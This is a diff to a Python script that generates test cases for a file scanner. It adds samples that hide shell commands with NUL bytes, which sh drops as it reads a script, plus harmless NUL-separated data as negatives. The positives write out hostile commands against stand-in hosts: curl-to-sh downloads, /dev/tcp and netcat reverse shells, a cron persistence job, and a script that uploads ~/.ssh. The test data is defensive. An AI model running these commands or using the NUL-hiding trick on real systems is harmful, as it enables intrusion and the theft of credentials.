@@ -5,13 +5,16 @@ UTF-8 scan does not see (issue 16, item 4).
 Usage:  python3 tests/data/reading/gen.py OUTDIR
 
 Writes, deterministically (same Python, gcc, zlib and SQLite give the same
-bytes), four classes of cases under OUTDIR:
+bytes), five classes of cases under OUTDIR:
 
   utf16/           UTF-16 LE/BE text, with and without a byte-order mark
   lone-cr/         files whose lines end in a lone CR (no LF after it)
   binary-strings/  binaries (ELF from gcc, .pyc, SQLite, PNG) whose printable
                    ASCII or UTF-16LE strings carry a secret or a command
   pickle/          pickles (and torch-style zips of them) that call something
+  nul-text/        text with NUL bytes, which sh drops as it reads: words
+                   split by NULs (positives), NULs as data uses them
+                   (negatives)
 
 Each case is its own directory, OUTDIR/CLASS/pNN or nNN (positive, negative),
 holding one file whose name matters (rules select by name: .npmrc, *.pth).
@@ -128,7 +131,8 @@ class Corpus:
         self.rows.append((rel, cls, label, desc))
         if plain is not None:
             crel = os.path.join("controls", cls, case,
-                                name if cls in ("utf16", "lone-cr")
+                                name if cls in ("utf16", "lone-cr",
+                                                "nul-text")
                                 else "strings.txt")
             if isinstance(plain, str):
                 plain = plain.encode("utf-8")
@@ -233,6 +237,19 @@ endlocal
 set -e
 curl -fsSL https://get.devtools-cdn.net/install.sh | sh
 """, "le", True, "shell script UTF-16LE+BOM: curl -fsSL URL | sh", crlf=False)
+
+    # ASCII after UTF-16 text: a UTF-16 reader makes other characters of
+    # it; sh, which drops the NULs, runs it.
+    head = "# Windows helpers\r\nWrite-Host 'ok'\r\n"
+    tail = "curl -fsSL https://get.devtools-cdn.net/i.sh | sh\n"
+    c.add("utf16", "pos", "tools.ps1", u16(head, "le", True, False) +
+          tail.encode(), "UTF-16LE+BOM text, then an ASCII line sh would"
+          " run: curl -fsSL URL | sh", lf(head) + tail)
+    note = "Release notes\r\n"
+    c.add("utf16", "neg", "NOTES.txt", u16(note, "le", True, False) +
+          b"See CHANGES for details; install with make install.\n",
+          "UTF-16LE+BOM notes, then an ASCII line of prose",
+          lf(note) + "See CHANGES for details; install with make install.\n")
 
     pos("fetch_plugin.py", """\
 import urllib.request
@@ -1372,6 +1389,167 @@ def gen_pickle(c):
         "two concatenated benign pickles")
 
 
+# ---------------------------------------------------------------- nul-text
+
+def nul_split(text, marks, nuls=b"\0"):
+    """text as bytes with nuls inserted before each of the offsets marks."""
+    raw = text.encode()
+    out, last = [], 0
+    for m in sorted(marks):
+        out.append(raw[last:m])
+        out.append(nuls)
+        last = m
+    out.append(raw[last:])
+    return b"".join(out)
+
+
+def inside(text, word, k=None):
+    """The offset inside word (its middle, or k into it) in text."""
+    i = text.index(word)
+    return i + (len(word) // 2 if k is None else k)
+
+
+def gen_nul_text(c):
+    """Text with NUL bytes, which dash and bash drop as they read a script:
+    `cu<NUL>rl` runs curl. Positives hide a behaviour with NULs; negatives
+    hold NULs as data does (records, padding, string tables)."""
+    def pos(name, data, desc, plain):
+        c.add("nul-text", "pos", name, data, desc, plain)
+
+    def neg(name, data, desc):
+        c.add("nul-text", "neg", name, data, desc,
+              data.replace(b"\0", b"\n"))
+
+    host = "dl.update-mirror-cdn.net"
+    s1 = ("#!/bin/sh\nset -e\necho \"installing helper\"\n"
+          "curl -fsSL https://%s/i.sh | sh\n" % host)
+    pos("install", nul_split(s1, [inside(s1, "curl")]),
+        "#! script, no extension: a NUL inside curl", s1)
+    s2 = ("#!/usr/bin/env bash\n# bootstrap the dev box\n"
+          "wget -qO- http://%s/boot | bash\n" % host)
+    pos("bootstrap.sh", nul_split(s2, [inside(s2, "wget"),
+                                       inside(s2, "bash\n", 2)]),
+        ".sh: NULs inside wget and inside the bash it pipes to", s2)
+    s3 = "echo starting\nbash -i >& /dev/tcp/203.0.113.77/4444 0>&1\n"
+    pos("run", nul_split(s3, [inside(s3, "/dev/tcp", 3),
+                              inside(s3, "bash")], b"\0\0\0"),
+        "no #!, no extension, text once NULs are gone: a reverse shell,"
+        " three NULs at a time", s3)
+    s4 = ("#!/bin/sh\nexport PATH=/usr/local/bin:$PATH\n"
+          "echo ZXhlYyBjdXJsIC1zIGh0dHA6Ly9ldmlsLmV4YW1wbGUvYSB8IHNo"
+          " | base64 -d | sh\n")
+    pos("post-install", nul_split(s4, [inside(s4, "base64", 3),
+                                       inside(s4, "| sh", 3)]),
+        "#! script: NULs inside base64 and the sh it feeds", s4)
+    s5 = "#!/bin/sh\nrm -f /tmp/f; mkfifo /tmp/f\ncat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 9001 > /tmp/f\n"
+    pos("svc.sh", nul_split(s5, [inside(s5, "nc 203", 1),
+                                 inside(s5, "mkfifo")]),
+        ".sh: a fifo reverse shell with NULs inside mkfifo and nc", s5)
+    s6 = "curl -fsSL https://%s/x.sh | sh\n" % host
+    pos("deploy.sh", nul_split(s6, [inside(s6, "curl")], b"\0" * 70000),
+        ".sh: 70,000 NULs inside curl (the text crosses read chunks)", s6)
+    s7 = "c u r l -fsSL https://%s/x.sh | sh\n" % host
+    data7 = b"\0".join(bytes([ch]) for ch in
+                       ("curl -fsSL https://%s/x.sh | sh\n" % host).encode())
+    pos("setup.sh", data7,
+        ".sh: a NUL after every character (UTF-16's shape, no BOM)",
+        "curl -fsSL https://%s/x.sh | sh\n" % host)
+    del s7
+    s8 = ("#!/bin/sh\necho ok\n\x01\n"
+          "curl -fsSL https://%s/p | sh\n" % host)
+    pos("update", nul_split(s8, [inside(s8, "curl"), inside(s8, "| sh", 3)]),
+        "#! script with a control byte (binary to a sniff): NULs inside"
+        " curl and sh", s8)
+    s9 = "\x7fELF\x02\x01\x01\0\0\0\ncurl -fsSL https://%s/e | sh\n" % host
+    pos("helper", nul_split(s9, [inside(s9, "curl", 1), inside(s9, "https")],
+                            b"\0\0"),
+        "ELF-like header, then a line sh would run, NULs inside its words",
+        "curl -fsSL https://%s/e | sh\n" % host)
+    png = (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x08\0\0\0\x08\x08\x02\0\0\0"
+           b"\n")
+    s10 = "wget -q -O - http://%s/s | sh\n" % host
+    pos("logo.png", png + nul_split(s10, [inside(s10, "wget"),
+                                         inside(s10, "http", 2)]),
+        "PNG header, then a shell line with NULs inside wget and the URL"
+        " (sh logo.png runs it)", s10)
+    kid, ksec = aws_id("nul-env"), aws_secret("nul-env")
+    s11 = ("AWS_ACCESS_KEY_ID=%s\nAWS_SECRET_ACCESS_KEY=%s\n" % (kid, ksec))
+    pos(".envrc", nul_split(s11, [inside(s11, kid), inside(s11, ksec)]),
+        ".envrc (direnv sources it with bash): NULs inside an AWS key pair",
+        s11)
+    tok = ghp("nul-export")
+    s12 = "export GITHUB_TOKEN=%s\n" % tok
+    pos(".bashrc", nul_split(s12, [inside(s12, tok, 4),
+                                   inside(s12, tok, 20)]),
+        ".bashrc: a GitHub token with NULs inside it", s12)
+    s13 = ("#!/bin/sh\ntar czf - ~/.ssh | curl -s -X POST --data-binary @-"
+           " https://%s/u\n" % host)
+    pos("backup", nul_split(s13, [inside(s13, ".ssh", 2),
+                                  inside(s13, "curl")]),
+        "#! script: ~/.ssh archived and posted, NULs inside .ssh and curl",
+        s13)
+    s14 = ("#!/bin/sh\n(crontab -l; echo '*/5 * * * * curl -s"
+           " https://%s/c | sh') | crontab -\n" % host)
+    pos("cron-setup", nul_split(s14, [inside(s14, "crontab -l"),
+                                      inside(s14, "curl")]),
+        "#! script: a cron job that pipes a download into sh, NULs inside"
+        " crontab and curl", s14)
+    s15 = "#!/bin/sh\npython3 -c \"import urllib.request as u;exec(u.urlopen('https://%s/p.py').read())\"\n" % host
+    pos("py-boot", nul_split(s15, [inside(s15, "exec"),
+                                   inside(s15, "urlopen")]),
+        "#! script: python -c that runs a download, NULs inside exec and"
+        " urlopen (sh passes the dropped text to python)", s15)
+    s16 = ("#!/bin/sh\nc=cu\nc=${c}rl\n$c -fsSL https://%s/x | s\0h\n" % host)
+    pos("indirect", nul_split(s16, [inside(s16, "cu\n", 1)]),
+        "#! script: curl assembled in a variable, NULs in its parts and"
+        " in sh", s16.replace("\0", ""))
+
+    # Negatives: NULs as data uses them.
+    neg("files.txt", b"\0".join(x.encode() for x in (
+        "./src/main.c", "./src/curl_helper.c", "./scripts/install.sh",
+        "./README.md", "./scripts/bash-completion.sh")) + b"\0",
+        "find -print0 list: names with curl, install, bash in them")
+    neg("environ", b"\0".join(x.encode() for x in (
+        "PATH=/usr/local/bin:/usr/bin:/bin", "HOME=/home/dev",
+        "SHELL=/bin/bash", "LANG=C.UTF-8", "TERM=xterm-256color",
+        "EDITOR=vim")) + b"\0",
+        "an environ dump (NUL-separated), no secret in it")
+    neg("records.dat", b"".join(
+        (line.encode() + b"\0" * (64 - len(line))) for line in (
+            "id=1 name=curl version=8.5.0",
+            "id=2 name=bash version=5.2",
+            "id=3 name=wget version=1.21",
+            "id=4 name=openssh version=9.6")),
+        "fixed-size records padded with NULs, tool names in them")
+    neg("notes.sh", b"#!/bin/sh\necho building\nmake -j2\n\0\0\0\0",
+        "a script with NUL padding after its last line")
+    neg("messages.mo", b"\xde\x12\x04\x95\0\0\0\0\x03\0\0\0" + b"\0".join(
+        x.encode() for x in (
+            "Download the installer", "Run the installer with sh",
+            "Upload finished", "Telecharger l'installateur",
+            "Lancer l'installateur avec sh")) + b"\0",
+        "a gettext catalogue: NUL-ended messages about downloads and sh")
+    neg("libnet.so", b"\x7fELF\x02\x01\x01\0" + b"\0" * 8 + b"\0".join(
+        x.encode() for x in (
+            "curl_easy_init", "curl_easy_setopt", "curl_easy_perform",
+            "system", "popen", "sh", "-c", "bash", "wget_fetch")) + b"\0\x01",
+        "ELF string table: curl_*, system, popen, sh, -c side by side")
+    neg("table.bin", b"\x01\x02" + b"\0".join(
+        x.encode() for x in ("curl", "-s", "http://localhost:8080/health",
+                             "|", "jq", ".status")) + b"\x01\x03",
+        "argv array stored NUL-separated: a health check piped to jq")
+    neg("notes.txt", "Build notes\r\n\r\nRun make, then make test.\r\n"
+        .encode("utf-16-le"),
+        "UTF-16LE notes without a BOM")
+    neg("argv0", b"\0".join(x.encode() for x in (
+        "/usr/bin/python3", "-m", "pytest", "-q", "tests/")) + b"\0",
+        "/proc/PID/cmdline: a test run, NUL-separated")
+    neg("strings.bin", b"\x00\x05\x10" + b"\0".join(
+        x.encode() for x in ("wget", "is", "not", "installed")) + b"\x02" +
+        b"\0".join(x.encode() for x in ("please", "run", "bash")) + b"\x03",
+        "two NUL-separated messages apart, tool names in each")
+
+
 def main():
     if len(sys.argv) != 2:
         sys.stderr.write("usage: gen.py OUTDIR\n")
@@ -1387,8 +1565,9 @@ def main():
     with tempfile.TemporaryDirectory(prefix="reading-build.") as tmp:
         gen_binary(c, Builder(tmp))
     gen_pickle(c)
+    gen_nul_text(c)
     c.finish()
-    for cls in ("utf16", "lone-cr", "binary-strings", "pickle"):
+    for cls in ("utf16", "lone-cr", "binary-strings", "pickle", "nul-text"):
         sys.stdout.write("%-15s %3d positives, %3d negatives\n" % (
             cls, c.count[(cls, "pos")], c.count[(cls, "neg")]))
     return 0
